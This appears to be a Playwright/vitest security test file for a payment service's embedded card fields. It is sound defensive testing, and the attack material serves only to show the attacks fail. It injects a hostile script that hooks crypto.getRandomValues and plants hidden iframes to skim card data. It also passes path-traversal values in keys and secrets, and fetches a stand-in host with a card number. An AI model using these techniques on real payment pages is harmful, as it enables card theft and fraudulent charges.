import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { CVC, cards } from '../../kit/sandbox-shop.ts';
import { seedMerchant } from '../../kit/seed.ts';
import { runs } from './chromium.ts';
import { test as base, call, mount } from './shop-site.ts';

/** A payment's data as its page has it. */
interface Known {
  readonly key: string;
  readonly secret: string;
}

/** A frame opened by a hostile script: the payment in its address, and its opening message. */
interface HostileFrame {
  readonly element: string;
  readonly at: Known;
  readonly opened: Known;
}

const test = base
  /** An attacker's merchant that allows the shop's domain, with a payment. */
  .extend('evil', async ({ client, service }) => {
    const merchant = await seedMerchant(service);
    await merchant.connector({
      test_mode: true,
      payment_methods_enabled: [
        { payment_method: 'card', recurring_enabled: true, installment_payment_enabled: false },
      ],
    });
    const { key } = merchant;
    const allowed_domains = ['127.0.0.1'];
    const profile = `/account/${merchant.merchantId}/business_profile/${merchant.profileId}`;
    await client.post(profile, { key, body: { payment_link_config: { allowed_domains } } });
    const body = { amount: 99900, currency: 'USD', customer_id: 'thief', setup_future_usage: 'on_session' };
    const made = await client.post('/payments', { key, body: { ...body, profile_id: merchant.profileId } });
    expect(made.status, made.text).toBe(200);
    const { client_secret: secret, payment_id: id } = made.body as Record<string, string>;
    return {
      known: { key: merchant.publishableKey, secret: secret! } satisfies Known,
      read: async () => (await client.get(`/payments/${id}`, { key })).body,
    };
  });

/**
 * A hostile script that runs before the shop's. It creates one-pixel frames, learns the group of the shop's elements
 * when the page creates them, and opens its frames by the protocol. `taken.heard` collects their messages, `taken.ask`
 * calls one.
 */
const hostileScript = (url: string, frames: readonly HostileFrame[]) => `{
  const taken = { group: '', heard: [], ask: [] };
  globalThis.taken = taken;
  const draw = crypto.getRandomValues.bind(crypto);
  const grouped = new Promise((resolve) => {
    crypto.getRandomValues = (bytes) => {
      draw(bytes);
      taken.group = Array.from(bytes, (byte) => byte.toString(16).padStart(2, '0')).join('');
      resolve();
      return bytes;
    };
  });
  for (const { at, element, opened } of ${JSON.stringify(frames)}) {
    const payment = at.secret.slice(0, at.secret.lastIndexOf('_secret_'));
    const iframe = document.createElement('iframe');
    iframe.src = '${url}/elements/' + at.key + '/' + payment + '/' + element;
    iframe.style.cssText = 'width:1px;height:1px';
    const { port1, port2 } = new MessageChannel();
    const becomes = new Promise((resolve) => {
      port1.addEventListener('message', ({ data }) => {
        taken.heard.push(data);
        if (data.type === 'ready' || data.type === 'failed') resolve(data.type);
      });
    });
    port1.start();
    addEventListener('message', async ({ source }) => {
      if (source !== iframe.contentWindow) return;
      await grouped;
      const opening = { switchyard: 'open', appearance: {}, group: taken.group, step: null };
      const given = { ...opening, publishableKey: opened.key, clientSecret: opened.secret };
      iframe.contentWindow.postMessage(given, '*', [port2]);
    });
    document.body.append(iframe);
    taken.ask.push(async (request) => {
      if ((await becomes) === 'failed') return 'refused';
      return new Promise((resolve) => {
        port1.addEventListener('message', ({ data }) => data.type === 'answer' && resolve(data.answer));
        port1.postMessage({ ...request, id: 7 });
      });
    });
  }
}`;

const fill = async (page: Page) => {
  const frame = (title: string) => page.frameLocator(`iframe[title="${title}"]`);
  await frame('Secure card number field').getByLabel('Card number').fill(cards.good);
  await frame('Secure expiry date field').getByLabel('Expiry date').fill('12 / 39');
  await frame('Secure security code field').getByLabel('Security code').fill(CVC);
};

const places = { cardNumber: '#number', cardExpiry: '#expiry', cardCvc: '#code' };
const confirming = { type: 'confirm', added: { setup_future_usage: 'on_session' } };

test(
  'A frame of another payment in the same group receives no typed text and charges nothing',
  runs,
  async ({ domains, evil, link, read, seller, service, shopPage }) => {
    await domains(['127.0.0.1']);
    const payment = await link({ payment_link: false });
    const { page } = await shopPage();
    const shops: Known = { key: seller.publishableKey, secret: payment.client_secret };
    const frames: HostileFrame[] = [
      { element: 'cardCvc', at: evil.known, opened: evil.known },
      { element: 'cardNumber', at: evil.known, opened: evil.known },
      { element: 'cardCvc', at: shops, opened: evil.known },
      { element: 'cardCvc', at: evil.known, opened: shops },
      { element: 'cardCvc', at: evil.known, opened: { ...shops, key: evil.known.key } },
      { element: 'cardCvc', at: evil.known, opened: { ...evil.known, key: shops.key } },
    ];
    await page.evaluate(hostileScript(service.url, frames));
    await mount(page, seller.publishableKey, payment.client_secret, places);
    await fill(page);
    for (const [index, frame] of frames.entries()) {
      for (const request of [{ type: 'check' }, confirming]) {
        const answer = await page.evaluate(`taken.ask[${index}](${JSON.stringify(request)})`);
        const refusal =
          frame.at === frame.opened
            ? { kind: 'error', error: expect.objectContaining({ code: 'incomplete' }) }
            : 'refused';
        expect.soft(answer, JSON.stringify(frame)).toEqual(refusal);
      }
    }
    expect(await evil.read()).toMatchObject({ status: 'requires_payment_method', attempt_count: 0 });
    expect(await read(payment)).toMatchObject({ status: 'requires_payment_method', attempt_count: 0 });
    const heard = await page.evaluate('JSON.stringify(taken.heard)');
    expect(heard).not.toMatch(new RegExp(`${cards.good}|${CVC}`));
    expect(await call(page, 'confirmPayment', { redirect: 'if_required' })).toMatchObject({
      paymentIntent: { status: 'succeeded' },
    });
  },
);

test(
  "A frame accepts only keys and secrets in the service's format, and puts none into an address",
  runs,
  async ({ domains, link, seller, service, shopPage }) => {
    await domains(['127.0.0.1']);
    const payment = await link({ payment_link: false });
    const { page } = await shopPage();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(`${request.method()} ${new URL(request.url()).pathname}`));
    const shops: Known = { key: seller.publishableKey, secret: payment.client_secret };
    const wrong: Known[] = [
      { ...shops, key: '../auth/sign-out?x=' },
      { ...shops, key: `${shops.key}/../../auth` },
      { ...shops, secret: `../../auth/sign-out?x=_secret_1` },
      { ...shops, secret: `${payment.payment_id}/../x_secret_1` },
    ];
    const answer = await page.evaluate(`new Promise((resolve) => {
      const iframe = document.createElement('iframe');
      iframe.src = '${service.url}/elements/${shops.key}/${payment.payment_id}/card';
      addEventListener('message', ({ source }) => {
        if (source !== iframe.contentWindow) return;
        const opening = { switchyard: 'open', appearance: {}, group: '1', step: null };
        // The last one opens it, once it has passed over those before.
        for (const { key, secret } of ${JSON.stringify([...wrong, shops])}) {
          const { port1, port2 } = new MessageChannel();
          const given = { ...opening, publishableKey: key, clientSecret: secret };
          port1.onmessage = ({ data }) => {
            if (data.type === 'ready') port1.postMessage({ type: 'return_address', id: 1 });
            if (data.type === 'answer') resolve([key, data.answer.kind]);
          };
          iframe.contentWindow.postMessage(given, '*', [port2]);
        }
      });
      document.body.append(iframe);
    })`);
    expect(answer).toEqual([shops.key, 'address']);
    expect(asked.filter((one) => one.startsWith('POST'))).toEqual([
      `POST /elements/${shops.key}/${payment.payment_id}/return_address`,
    ]);
    expect(asked.filter((one) => one.includes('auth'))).toEqual([]);
  },
);

test(
  'Pages and frames for customers escape all text, and refuse requests to other hosts',
  runs,
  async ({ customer, domains, link, seller, shopPage }) => {
    await domains(['127.0.0.1']);
    const payment = await link();
    const { page: paid } = await customer(payment.payment_link.link);
    const { page } = await shopPage();
    await mount(page, seller.publishableKey, payment.client_secret, { payment: '#form' });
    await page.frameLocator('iframe').getByLabel('Card number').waitFor();
    const attempts = `(async () => {
      const attempt = (act) => { try { act(); return 'done'; } catch ({ name }) { return name; } };
      const refused = new Promise((resolve) =>
        document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) =>
          effectiveDirective === 'connect-src' && resolve([effectiveDirective, blockedURI])));
      const found = [
        attempt(() => { document.createElement('div').innerHTML = '<b>x</b>'; }),
        attempt(() => { document.createElement('script').src = '/x.js'; }),
        attempt(() => { document.createElement('iframe').srcdoc = 'x'; }),
        attempt(() => { trustedTypes.createPolicy('mine', { createHTML: (text) => text }); }),
      ];
      fetch('https://elsewhere.example/?pan=4242').catch(() => undefined);
      return [...found, ...(await refused)];
    })()`;
    const expected = ['TypeError', 'TypeError', 'TypeError', 'TypeError'];
    for (const target of [paid, page.frames().at(-1)!]) {
      const found = await target.evaluate(attempts);
      expect(found).toEqual([...expected, 'connect-src', 'https://elsewhere.example/?pan=4242']);
    }
  },
);
